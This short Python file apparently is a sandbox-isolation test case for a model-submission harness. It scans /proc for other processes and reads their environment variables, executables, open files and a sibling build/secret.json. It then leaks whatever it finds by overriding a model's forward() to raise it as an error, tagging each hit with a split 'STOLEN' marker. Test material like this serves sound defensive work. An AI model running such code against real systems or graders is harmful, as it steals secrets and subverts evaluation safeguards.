"""
kind: reading
tries: The environment, arguments and working folders of all other processes in /proc.
plain: no
leaks: STOLEN
"""

import os
from pathlib import Path

found = []


def keep(what):
    found.append("STO" + f"LEN {str(what)[:200]}")
    print(found[-1])


class ModelBaseline(ModelBaseline):
    def forward(self, x):
        if found:
            raise RuntimeError(found[-1])
        return super().forward(x)


for process in Path("/proc").glob("[0-9]*"):
    if int(process.name) == os.getpid():
        continue
    for read in (
        lambda: (process / "environ").read_bytes(),
        lambda: os.readlink(process / "exe"),
        lambda: os.listdir(process / "fd"),
        lambda: os.listdir(f"{process}/cwd/../source"),
        lambda: (process / "cwd" / ".." / "source" / "build" / "secret.json").read_bytes(),
    ):
        try:
            if content := read():
                keep(f"{process.name} {content}")
        except OSError:
            pass
